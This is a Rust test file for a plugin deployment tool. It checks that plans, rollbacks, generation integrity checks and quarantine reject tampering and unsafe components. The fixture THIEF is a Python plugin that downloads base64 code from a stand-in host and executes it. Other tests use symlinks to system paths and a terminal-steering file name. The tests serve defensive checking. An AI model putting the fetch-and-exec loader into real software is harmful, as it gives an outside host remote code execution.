//! Plan, integrate, roll back, isolate: the straight path, and what must be refused.

use std::path::Path;

use serde_json::Value;

use crate::plugin::judge;
use crate::room::{Ran, Room};

const WEATHER: &str = "class Weather:\n    name = \"weather\"\n    version = \"1.0.0\"\n    def execute(self, city):\n        return city\n\n\nPLUGIN_CLASS = Weather\n";
const MANIFEST: &str = r#"{"name": "forecast", "version": "1.1.0", "entry_point": "main.py:Main",
 "aetherra_version": "^3.0", "dependencies": {"weather": "^1.0"}}"#;
const MAIN: &str = "from .parts import unit\n\n\nclass Main:\n    name = \"forecast\"\n\n    def execute(self):\n        return unit()\n";
const PARTS: &str = "def unit():\n    return 1\n";
const THIEF: &str = "import base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('http://198.51.100.7/x').read()))\nPLUGIN_CLASS = None\n";

/// A project in which everything was looked at.
fn judged() -> Room {
    let room = Room::with(&[
        ("plugins/weather.py", WEATHER),
        ("plugins/forecast/aetherra-plugin.json", MANIFEST),
        ("plugins/forecast/main.py", MAIN),
        ("plugins/forecast/parts.py", PARTS),
        ("plugins/thief.py", THIEF),
    ]);
    judge(&room);
    room
}

#[track_caller]
fn data(room: &Room, arguments: &[&str]) -> Value {
    let document = room.json(arguments);
    assert_eq!(document["exit_code"], 0, "{document:#}");
    document["data"].clone()
}

#[track_caller]
fn refused(room: &Room, arguments: &[&str], code: i32, why: &str) {
    let before = tree(room);
    let ran: Ran = room.run(arguments);
    assert_eq!(ran.code, code, "{arguments:?}: {}{}", ran.stdout, ran.stderr);
    assert!(ran.stderr.contains(why) || ran.stdout.contains(why), "{arguments:?}: {}{}", ran.stdout, ran.stderr);
    assert_eq!(tree(room), before, "{arguments:?} changed what is deployed");
}

/// What a host would load: the target of the link, and every file below it with its content.
fn tree(room: &Room) -> Vec<(String, String)> {
    let current = room.path(".aetherra/current");
    let Ok(target) = std::fs::read_link(&current) else { return Vec::new() };
    let mut found = vec![("current".to_owned(), target.display().to_string())];
    let mut folders = vec![current.join("tree")];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).expect("a folder").flatten() {
            if entry.path().is_dir() {
                folders.push(entry.path());
            } else {
                let name = entry.path().strip_prefix(&current).expect("below").display().to_string();
                found.push((name, std::fs::read_to_string(entry.path()).expect("text")));
            }
        }
    }
    found.sort();
    found
}

fn steps(plan: &Value) -> Vec<String> {
    let steps = plan["plan"]["steps"].as_array().expect("steps");
    steps.iter().map(|step| step["component"].as_str().expect("an id").to_owned()).collect()
}

#[test]
fn what_is_good_is_let_in_and_can_be_taken_back() {
    let room = judged();
    let plan = data(&room, &["plan"]);
    assert_eq!(steps(&plan), ["plugins/weather.py", "plugins/forecast"]);
    let reasons = plan["plan"]["report"]["left_out"].as_array().expect("a list");
    assert!(reasons.iter().any(|left_out| left_out["component"] == "plugins/thief.py"), "{plan:#}");
    assert_eq!(data(&room, &["integrate", "--dry-run"])["generation"], Value::Null);
    assert!(tree(&room).is_empty(), "a rehearsal changes nothing");

    let made = data(&room, &["integrate"]);
    assert_eq!(made["generation"], 1);
    assert_eq!(tree(&room).len(), 5);
    assert!(tree(&room).contains(&("tree/plugins/weather.py".to_owned(), WEATHER.to_owned())));
    let again = data(&room, &["plan"]);
    assert!(steps(&again).is_empty(), "{again:#}");

    let token = made["token"].as_str().expect("a token").to_owned();
    let rehearsed = data(&room, &["rollback", &token, "-n"]);
    assert_eq!(rehearsed["rollback"]["removed"].as_array().map(Vec::len), Some(2));
    let back = data(&room, &["rollback", &token]);
    assert_eq!(back["generation"], 0);
    assert!(tree(&room).is_empty());
    refused(&room, &["rollback", &token], 6, "token was spent");
    let forth = data(&room, &["rollback", back["token"].as_str().expect("a token")]);
    assert_eq!(forth["generation"], 1, "a rollback can be rolled back");
    assert_eq!(tree(&room).len(), 5);
}

#[test]
fn a_file_that_changed_after_it_was_judged_is_refused() {
    let room = judged();
    data(&room, &["plan"]);
    room.write("plugins/weather.py", format!("{WEATHER}# one more\n"));
    refused(&room, &["integrate"], 6, "has changed since the plan was made");
    refused(&room, &["integrate", "-n"], 6, "has changed since the plan was made");
    std::fs::remove_file(room.path("plugins/weather.py")).expect("it goes");
    refused(&room, &["integrate"], 6, "weather.py");
    std::os::unix::fs::symlink("/etc/hostname", room.path("plugins/weather.py")).expect("a link");
    refused(&room, &["integrate"], 6, "weather.py");
}

#[test]
fn a_plan_that_was_edited_is_refused() {
    let room = judged();
    let ran = room.run(&["plan", "-o", "json=plan.json"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let text = std::fs::read_to_string(room.path("plan.json")).expect("the plan");
    room.write("edited.json", text.replace("\"decision\": \"approve\"", "\"decision\": \"review\""));
    refused(&room, &["integrate", "edited.json"], 6, "does not match its id");
    room.write("other.json", "{\"a\": 1}");
    refused(&room, &["integrate", "other.json"], 2, "no plan");
    refused(&room, &["integrate", "nowhere.json"], 6, "neither a plan nor a file");
    assert_eq!(data(&room, &["integrate", "plan.json"])["generation"], 1);
    refused(&room, &["integrate", "plan.json"], 6, "generation 1 is");
}

#[test]
fn a_plan_for_another_generation_is_refused() {
    let room = judged();
    let first = data(&room, &["plan", "--only", "weather"]);
    data(&room, &["integrate"]);
    let id = first["plan"]["id"].as_str().expect("an id").to_owned();
    refused(&room, &["integrate", &id], 6, "was expected to be deployed");
}

#[test]
fn a_change_in_the_middle_is_undone_by_a_new_generation_unless_it_is_needed() {
    let room = judged();
    data(&room, &["plan", "--only", "weather"]);
    let first = data(&room, &["integrate"]);
    data(&room, &["plan"]);
    data(&room, &["integrate"]);
    let token = first["token"].as_str().expect("a token").to_owned();
    refused(&room, &["rollback", &token], 6, "came later and needs");
    let cascaded = data(&room, &["rollback", &token, "--cascade"]);
    assert_eq!(cascaded["generation"], 3);
    assert_eq!(cascaded["rollback"]["cascaded"][0], "plugins/forecast");
    assert_eq!(tree(&room).len(), 1, "only the link is left");
    assert_eq!(data(&room, &["rollback", "--to", "2"])["generation"], 2);
    assert_eq!(tree(&room).len(), 5);
}

#[test]
fn tokens_of_other_states_and_no_tokens_are_refused() {
    let (room, other) = (judged(), judged());
    for room in [&room, &other] {
        data(room, &["plan"]);
    }
    other.write("more.py", "X = 1\n");
    judge(&other);
    let made = data(&other, &["integrate"]);
    refused(&room, &["rollback", made["token"].as_str().expect("a token")], 6, "issued no such token");
    refused(&room, &["rollback", "nonsense"], 2, "starts with");
    refused(&room, &["rollback", "--last"], 6, "cannot be undone");
    refused(&room, &["rollback", "--to", "7"], 6, "no generation 7");
}

#[test]
fn what_is_isolated_leaves_the_tree_with_all_that_needs_it() {
    let room = judged();
    data(&room, &["plan"]);
    data(&room, &["integrate"]);
    let held = data(&room, &["quarantine", "add", "plugins/weather.py", "--reason", "a test", "--move"]);
    assert_eq!(held["removed"].as_array().map(Vec::len), Some(2), "{held:#}");
    assert!(!room.path("plugins/weather.py").exists());
    assert_eq!(tree(&room).len(), 1);
    let packed: Vec<_> = std::fs::read_dir(room.path(".aetherra/quarantine")).expect("a folder").flatten().collect();
    assert_eq!(packed.len(), 1);
    let text = std::fs::read(packed[0].path()).expect("a file");
    assert!(!text.windows(12).any(|window| window == b"PLUGIN_CLASS"), "a host could still read it");
    assert_eq!(data(&room, &["quarantine", "list"])["by_state"]["held"], 1);
    refused(&room, &["rollback", "--last"], 1, "is held in quarantine");
    refused(&room, &["quarantine", "release", "7", "--reason", "x"], 6, "has the number 7");
    data(&room, &["quarantine", "restore", "1", "--reason", "a mistake"]);
    assert_eq!(std::fs::read_to_string(room.path("plugins/weather.py")).ok().as_deref(), Some(WEATHER));
    refused(&room, &["quarantine", "release", "1", "--reason", "x"], 6, "restored already");
}

#[test]
fn a_file_is_isolated_by_whatever_name_it_is_called() {
    for name in ["./plugins/weather.py", "plugins/../plugins//weather.py", "ABSOLUTE"] {
        let room = judged();
        data(&room, &["plan"]);
        data(&room, &["integrate"]);
        let absolute = room.path("plugins/weather.py").display().to_string();
        let name = if name == "ABSOLUTE" { absolute.as_str() } else { name };
        let held = data(&room, &["quarantine", "add", name]);
        assert_eq!(held["items"][0]["path"], "plugins/weather.py");
        assert_eq!(tree(&room).len(), 1, "{name}: it is still deployed");
    }
    let room = judged();
    refused(&room, &["quarantine", "add", "plugins/nothing.py"], 6, "no file of the project");
    refused(&room, &["quarantine", "add", "plugins"], 6, "no file of the project");
    refused(&room, &["quarantine", "add", "plugins/weather.py", "plugins/nothing.py"], 6, "no file of the project");
    assert_eq!(data(&room, &["quarantine", "list"])["items"], serde_json::json!([]), "all of them, or none");
}

#[test]
fn what_is_deployed_and_gone_from_the_project_can_be_isolated_and_comes_back() {
    let room = judged();
    data(&room, &["plan"]);
    data(&room, &["integrate"]);
    std::fs::remove_file(room.path("plugins/weather.py")).expect("it goes");
    judge(&room);
    assert_eq!(data(&room, &["quarantine", "add", "plugins/weather.py", "-n"])["removed"][1], "plugins/weather.py");
    let held = data(&room, &["quarantine", "add", "plugins/weather.py", "--move"]);
    assert_eq!(held["removed"].as_array().map(Vec::len), Some(2), "{held:#}");
    assert_eq!(tree(&room).len(), 1);
    data(&room, &["quarantine", "restore", "1", "--reason", "it was needed"]);
    assert_eq!(std::fs::read_to_string(room.path("plugins/weather.py")).ok().as_deref(), Some(WEATHER));
}

#[test]
fn what_should_be_isolated_and_is_gone_keeps_nothing_else_from_being_isolated() {
    let room = judged();
    room.write("plugins/another.py", THIEF);
    judge(&room);
    std::fs::remove_file(room.path("plugins/another.py")).expect("it goes");
    let rehearsed = data(&room, &["quarantine", "add", "-n"]);
    assert_eq!(rehearsed["items"].as_array().map(Vec::len), Some(1), "{rehearsed:#}");
    let ran = room.run(&["watch", "--once"]);
    assert_eq!(ran.code, 0, "{}{}", ran.stdout, ran.stderr);
    let held = data(&room, &["quarantine", "list"])["items"].clone();
    assert_eq!((held.as_array().map(Vec::len), &held[0]["path"]), (Some(1), &"plugins/thief.py".into()));
}

#[test]
fn a_name_that_steers_a_terminal_does_not_keep_a_file_from_being_isolated() {
    let room = judged();
    room.write("plugins/odd\u{202e}\n\\name.py", THIEF);
    std::fs::remove_file(room.path("plugins/thief.py")).expect("it goes");
    judge(&room);
    let held = data(&room, &["quarantine", "add", "--move"]);
    assert_eq!(held["items"].as_array().map(Vec::len), Some(1), "{held:#}");
    let left = std::fs::read_dir(room.path("plugins")).expect("a folder").flatten();
    assert!(left.map(|entry| entry.file_name()).all(|name| !name.to_string_lossy().starts_with("odd")));
    data(&room, &["quarantine", "restore", "1", "--reason", "a test"]);
    assert!(room.path("plugins/odd\u{202e}\n\\name.py").exists());
}

#[test]
fn the_sixth_integration_of_an_hour_needs_a_person() {
    let room = judged();
    for number in 0..6 {
        room.write("plugins/weather.py", format!("{WEATHER}# {number}\n"));
        judge(&room);
        data(&room, &["plan"]);
        if number < 5 {
            data(&room, &["integrate"]);
        }
    }
    refused(&room, &["integrate"], 1, "limit is 5");
    assert_eq!(data(&room, &["integrate", "--approve", "--by", "ada"])["generation"], 6);
    let head = room.json(&["generations"]);
    assert_eq!(head["data"]["current"], 6);
}

#[test]
fn a_component_that_does_not_hold_together_is_taken_back() {
    let room = judged();
    let broken = MANIFEST.replace("main.py:Main", "main.py:Gone");
    room.write("plugins/forecast/aetherra-plugin.json", broken);
    judge(&room);
    data(&room, &["plan"]);
    refused(&room, &["integrate"], 7, "does not define");
    assert_eq!(data(&room, &["generations"])["generations"][0]["state"], "failed");
    assert!(!room.path(".aetherra/generations/1").exists());
}

#[test]
fn the_state_is_checked_before_it_is_used() {
    let room = judged();
    data(&room, &["plan"]);
    data(&room, &["integrate"]);
    let current = room.path(".aetherra/current");
    std::fs::remove_file(&current).expect("it goes");
    std::os::unix::fs::symlink("/etc", &current).expect("a link");
    assert_eq!(room.run(&["rollback", "--last"]).code, 5);
    assert_eq!(std::fs::read_link(&current).ok().as_deref(), Some(Path::new("/etc")), "nothing is repaired silently");
}

#[test]
fn what_nothing_leads_to_is_cleared_away() {
    let room = judged();
    data(&room, &["plan"]);
    data(&room, &["integrate"]);
    let rehearsed = data(&room, &["generations", "gc", "-n", "--keep", "0"]);
    assert_eq!(rehearsed["collected"]["generations"].as_array().map(Vec::len), Some(0), "what is deployed stays");
    assert_eq!(data(&room, &["generations", "route", "somebody"])["generation"], 1);
}

#[test]
fn what_a_token_leads_to_is_kept_until_it_is_spent() {
    let room = Room::new();
    let tokens: Vec<String> = ["weather", "tides", "winds"]
        .map(|name| {
            room.write(&format!("plugins/{name}.py"), WEATHER.replace("weather", name));
            judge(&room);
            data(&room, &["plan"]);
            data(&room, &["integrate"])["token"].as_str().expect("a token").to_owned()
        })
        .into();
    let collect = || data(&room, &["generations", "gc", "--keep", "0"])["collected"]["generations"].clone();
    assert_eq!(collect(), serde_json::json!([]), "each of them can be gone back to");
    assert_eq!(data(&room, &["rollback", &tokens[1]])["generation"], 4);
    assert_eq!(collect(), serde_json::json!([1]), "only the token that was spent led there");
    assert_eq!(data(&room, &["rollback", &tokens[2]])["generation"], 5);
    assert!(tree(&room).contains(&("tree/plugins/weather.py".to_owned(), WEATHER.to_owned())));
    assert_eq!(tree(&room).len(), 2);
}

#[test]
fn a_generation_that_somebody_changed_is_not_gone_back_to() {
    use std::os::unix::fs::PermissionsExt;
    let room = judged();
    data(&room, &["plan"]);
    data(&room, &["integrate"]);
    let token = data(&room, &["rollback", "--last"])["token"].as_str().expect("a token").to_owned();
    let file = room.path(".aetherra/generations/1/tree/plugins/weather.py");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).expect("a mode");
    std::fs::write(&file, format!("{WEATHER}# one more\n")).expect("a change");
    refused(&room, &["rollback", "--verify", &token], 7, "is not what was approved");
    refused(&room, &["rollback", "--verify", "--to", "1"], 7, "is not what was approved");
    refused(&room, &["--set", "trust_mode=strict", "rollback", &token], 7, "is not what was approved");
    let ran = room.run(&["generations", "verify", "-f", "json"]);
    let found: Value = serde_json::from_str(&ran.stdout).expect("a report");
    assert_eq!((ran.code, &found["data"]["verified"][0]["number"]), (1, &1.into()));
    assert!(found["data"]["verified"][0]["damaged"][0].as_str().is_some_and(|why| why.contains("plugins/weather.py")));
    // Which tree it is, is looked at even where the files are not.
    std::fs::write(room.path(".aetherra/generations/1/generation.json"), "{}").expect("a change");
    refused(&room, &["rollback", &token], 7, "is not what the state says");
    std::fs::remove_dir_all(room.path(".aetherra/generations/1/tree")).expect("a change");
    refused(&room, &["rollback", "--to", "1"], 7, "looking at a generation");
}

#[test]
fn a_folder_is_no_plan() {
    let room = judged();
    refused(&room, &["integrate", "plugins"], 2, "no regular file");
}

#[test]
fn going_back_needs_no_list_of_all_that_is_in_the_tree() {
    let room = judged();
    data(&room, &["plan"]);
    data(&room, &["integrate"]);
    // The list grows with the tree. What cannot be read was not read.
    let database = rusqlite::Connection::open(room.path(".aetherra/state.db")).expect("the state");
    assert_eq!(database.execute("UPDATE generation_contents SET components = 'no list'", []).expect("a change"), 1);
    drop(database);
    let list = room.path(".aetherra/generations/1/generation.json");
    let text = std::fs::read_to_string(&list).expect("a list");
    let (head, _) = text.split_once("\"components\"").expect("a head");
    std::fs::write(&list, head).expect("a change");
    for deployed in [0, 1, 0] {
        assert_eq!(data(&room, &["rollback", "--last"])["generation"], deployed);
    }
    let ran = room.run(&["generations", "verify", "1"]);
    assert_eq!(ran.code, 5, "{}{}", ran.stdout, ran.stderr);
    assert!(ran.stderr.contains("state-unreadable"), "{}", ran.stderr);
}
